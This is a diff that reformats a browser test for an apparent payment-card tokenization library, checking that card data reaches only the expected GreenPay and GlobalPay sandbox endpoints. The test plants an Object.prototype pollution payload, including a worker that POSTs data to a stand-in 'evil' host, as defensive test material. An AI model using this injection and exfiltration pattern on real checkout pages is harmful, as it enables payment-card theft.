@@ -306,22 +306,36 @@ async function amongEvil({ entry, key, card, api }) {
   const stolen = [];
   const steal = (...args) => { stolen.push(args); return new Promise(() => {}); };
   const members = {
-    environment: { base: evil, checkout: evil }, base: evil, checkout: evil, base_url: evil, checkout_url: evil, clientApiUrl: evil, server: evil, fetch: steal, parse: steal,
-    worker: `data:text/javascript,onmessage=({data})=>fetch("${evil}",{method:"POST",body:JSON.stringify(data)})`, postMessage: steal, timeoutMs: 1, timeout: 1, sandbox: true,
-    own: true, mode: 'relay', kind: 'payment', method: 'GET', headers: { 'x-evil': evil }, body: 'x', redirect: 'follow', credentials: 'include', cache: 'force-cache', referrer: evil,
-    signal: {}, integrity: 'sha256-x', url: evil, tokenize: evil, update: evil, payment: `.evil.example/`, number: '4000000000000002', cvc: '000', expiry: '01/30', holder: 'Eve', card: {},
-    message: evil, status: 500, resolve: steal, reject: steal, byteLength: 0, browserData: { innerWidth: 1 }, name: 'x', idempotencyKey: 'x', token: 'evil', 0: evil, 1: evil, '-1': evil,
+    environment: { base: evil, checkout: evil }, base: evil, checkout: evil, base_url: evil, checkout_url: evil,
+    clientApiUrl: evil, server: evil, fetch: steal, parse: steal,
+    worker: `data:text/javascript,onmessage=({data})=>fetch("${evil}",{method:"POST",body:JSON.stringify(data)})`,
+    postMessage: steal, timeoutMs: 1, timeout: 1, sandbox: true,
+    own: true, mode: 'relay', kind: 'payment', method: 'GET', headers: { 'x-evil': evil }, body: 'x', redirect: 'follow',
+    credentials: 'include', cache: 'force-cache', referrer: evil,
+    signal: {}, integrity: 'sha256-x', url: evil, tokenize: evil, update: evil, payment: `.evil.example/`,
+    number: '4000000000000002', cvc: '000', expiry: '01/30', holder: 'Eve', card: {},
+    message: evil, status: 500, resolve: steal, reject: steal, byteLength: 0, browserData: { innerWidth: 1 }, name: 'x',
+    idempotencyKey: 'x', token: 'evil', 0: evil, 1: evil, '-1': evil,
   };
-  for (const [name, value] of Object.entries(members)) Object.defineProperty(Object.prototype, name, { __proto__: null, value, configurable: true, enumerable: true, writable: true });
+  for (const [name, value] of Object.entries(members)) Object.defineProperty(
+    Object.prototype, name, { __proto__: null, value, configurable: true, enumerable: true, writable: true },
+  );
   try {
     const cardseal = await import(`/pkg/${entry}.js`);
     await cardseal.load();
-    const token = await new cardseal.GpApi().tokenize(Object.assign(Object.create(null), { access_token: 't', reference: 'r', base_url: api }), card);
+    const token = await new cardseal.GpApi().tokenize(
+      Object.assign(Object.create(null), { access_token: 't', reference: 'r', base_url: api }), card,
+    );
     const order = { session: '2b1f0c52', token: '7d9cc4a3' };
     const greenpay = new cardseal.GreenPay({ publicKey: key });
-    const urls = [(await greenpay.payRequest(order, card)).url, (await greenpay.tokenizeRequest(order, card)).url, (await new cardseal.GpApi({ environment: 'sandbox' }).tokenizeRequest({ access_token: 't' }, card)).url];
+    const urls = [
+      (await greenpay.payRequest(order, card)).url, (await greenpay.tokenizeRequest(order, card)).url,
+      (await new cardseal.GpApi({ environment: 'sandbox' }).tokenizeRequest({ access_token: 't' }, card)).url,
+    ];
     const { valid } = await cardseal.validateCard(card);
-    const refused = await (async () => new cardseal.GpApi().tokenize({ access_token: 't', base_url: evil }, card))().catch(({ code, field }) => `${code} ${field}`);
+    const refused = await (async () => new cardseal.GpApi().tokenize(
+      { access_token: 't', base_url: evil }, card,
+    ))().catch(({ code, field }) => `${code} ${field}`);
     return [token.id, token.last4, urls, valid, refused, stolen.length];
   } finally {
     for (const name of Object.keys(members)) delete Object.prototype[name];
@@ -331,12 +345,17 @@ async function amongEvil({ entry, key, card, api }) {
 test('what another script has put on every object leads no card elsewhere', async (t) => {
   const method = { id: 'PMT_1', card: { masked_number_last4: 'XXXXXXXXXXXX4242' } };
   for (const [entry, csp] of [['index', ''], ['inline', ''], ['worker', '']]) {
-    const { page, site } = await open(t, { csp, more: { '/payment-methods': { headers: { 'content-type': 'application/json' }, body: JSON.stringify(method) } } });
+    const { page, site } = await open(t, {
+      csp, more: { '/payment-methods': { headers: { 'content-type': 'application/json' }, body: JSON.stringify(method) } },
+    });
     const urls = [];
     page.on('request', (request) => urls.push(request.url()));
     const made = await page.evaluate(amongEvil, { entry, key: KEY.public_spki_pem, card: CARD, api: site.url });
     assert.deepEqual(made, [
-      'PMT_1', '4242', ['https://sandbox-checkout.greenpay.me/', 'https://sandbox-checkout.greenpay.me/tokenize', 'https://apis.sandbox.globalpay.com/ucp/payment-methods'], true,
+      'PMT_1', '4242', [
+        'https://sandbox-checkout.greenpay.me/', 'https://sandbox-checkout.greenpay.me/tokenize',
+        'https://apis.sandbox.globalpay.com/ucp/payment-methods',
+      ], true,
       'session_host_refused base_url', 0,
     ], entry);
     assert.ok(site.seen.includes('/payment-methods'), entry);
